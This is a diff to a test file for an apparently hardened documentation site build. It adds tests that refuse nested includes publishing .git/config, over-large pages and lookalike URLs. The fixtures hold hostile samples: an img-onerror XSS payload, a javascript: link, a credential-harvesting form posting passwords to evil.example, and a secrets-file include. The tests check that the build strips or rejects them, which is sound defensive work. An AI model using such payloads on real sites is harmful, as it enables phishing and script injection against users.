@@ -312,6 +312,45 @@ def test_a_hand_written_page_includes_only_markdown_pages_and_costs_a_bounded_bu
     assert not (tiny_site / "site").exists()
 
 
+def test_an_included_page_includes_nothing_and_a_page_has_bounded_headings_and_emoji(tiny_site: Path) -> None:
+    """One level of nesting got past the include rules (a page including a page that included
+    .git/config published it; 30 x 30 includes wrote a 23 MB page); 21,000 headings and 140,000
+    emoji codes, each page under the work bound, took builds 59 s and 246 s."""
+    (tiny_site / ".git").mkdir()
+    (tiny_site / ".git" / "config").write_text('[remote "origin"]\n\turl = https://token@example.org/\n', encoding="utf-8")
+    (tiny_site / "evil.md").write_text('# Evil\n\n--8<-- ".git/config"\n', encoding="utf-8")
+    (tiny_site / "plain.md").write_text("# Plain\n\ntext\n", encoding="utf-8")
+    en = tiny_site / "docs" / "en"
+    (en / "about.md").write_text('# About\n\n--8<-- "plain.md"\n\n--8<-- "evil.md"\n', encoding="utf-8")
+    (en / "heads.md").write_text("# Heads\n\n" + "## a\n" * 300, encoding="utf-8")  # with its title, 301
+    (en / "emoji.md").write_text("# Emoji\n\n" + ":smile:" * 301 + "\n", encoding="utf-8")
+    (en / "fine.md").write_text("# Fine\n\n" + "## a\n\n:smile:\n\n" * 298, encoding="utf-8")
+    result = run_mkdocs(tiny_site, "build", "--strict")
+    assert result.returncode != 0 and "Traceback" not in result.stderr
+    refused = [line.strip() for line in result.stderr.splitlines() if line.strip().startswith("docs/")]
+    assert refused == [
+        "docs/en/about.md:5: the included file 'evil.md' includes '.git/config' (its line 3); "
+        "a page may include only pages that include nothing themselves",
+        "docs/en/emoji.md: has 301 emoji codes (:name:) with the files it includes; at most 300 on a page (each becomes a picture); use fewer",
+        "docs/en/heads.md: has 301 headings with the files it includes; at most 300 on a page "
+        "(the table of contents compares each one's link with the others'); split the page",
+    ], result.stderr[-2000:]
+    assert not (tiny_site / "site").exists()
+
+
+def test_the_hand_written_pages_of_all_languages_have_a_work_bound_together(tiny_site: Path) -> None:
+    """Pages each under the page bound, but many, would add up to any build time."""
+    heavy = "# Heavy\n\n" + "a *b* " * 9_500 + "\n"  # 817,000 units: under PAGE_WORK, over a quarter of ALL_PAGES_WORK
+    for lang in ("ko", "en"):
+        for n in range(2):
+            (tiny_site / "docs" / lang / f"heavy{n}.md").write_text(heavy, encoding="utf-8")
+    result = run_mkdocs(tiny_site, "build", "--strict")
+    assert result.returncode != 0 and "Traceback" not in result.stderr
+    assert "docs/: the hand-written pages of all languages together are too much work to build" in result.stderr, result.stderr[-1500:]
+    assert "docs/en/heavy0.md" not in result.stderr  # each page alone is fine
+    assert not (tiny_site / "site").exists()
+
+
 def test_links_that_show_one_site_and_open_another_are_refused() -> None:
     assert safe_url("https://аpple.com/") is None and safe_url("https://www.lucypark.kr@evil.example/") is None
     assert safe_url("https://xn--pple-43d.com/") == "https://xn--pple-43d.com/" and safe_url("https://example.org/a@b")
@@ -350,7 +389,8 @@ def test_a_hand_written_page_cannot_feed_the_atlas_script_its_data_attributes(ti
     target set on click) as the generated pages write them: a hand-written page keeps none."""
     gadget = ('# Gadget\n\n<form data-atlas-compare><select name="a"><option value="x">x</option></select></form>\n\n'
               '<div data-compare-result data-roles=\'{"x":{"name":"<img src=x onerror=alert(1)>"}}\'></div>\n\n'
-              '<p><a class="md-select__link" data-atlas-keep data-atlas-href="javascript:alert(2)" href="#top">Switch</a></p>\n')
+              '<p><a class="md-select__link" data-atlas-keep data-atlas-href="javascript:alert(2)" href="#top">Switch</a></p>\n\n'
+              '<form action="https://evil.example/login"><input name="password" placeholder="Password"><button>Sign in</button></form>\n')
     for lang in ("ko", "en"):
         (tiny_site / "docs" / lang / "gadget.md").write_text(gadget, encoding="utf-8")
     result = run_mkdocs(tiny_site, "build", "--strict")
@@ -360,5 +400,6 @@ def test_a_hand_written_page_cannot_feed_the_atlas_script_its_data_attributes(ti
         article = page.split("<article", 1)[1].split("</article>", 1)[0]
         assert "data-roles" not in article and "data-atlas-href" not in article and "data-compare-result" not in article
         assert "data-atlas-compare" not in article and "Switch" in article
+        assert not re.search(r"<(form|input|select|button)\b", article) and "evil.example" not in article  # no form to ask a password
     picker = (tiny_site / "site/en/compare/index.html").read_text(encoding="utf-8")
-    assert "data-roles=" in picker  # the generated comparison page keeps its own
+    assert "data-roles=" in picker and "<select" in picker  # the generated comparison page keeps its own
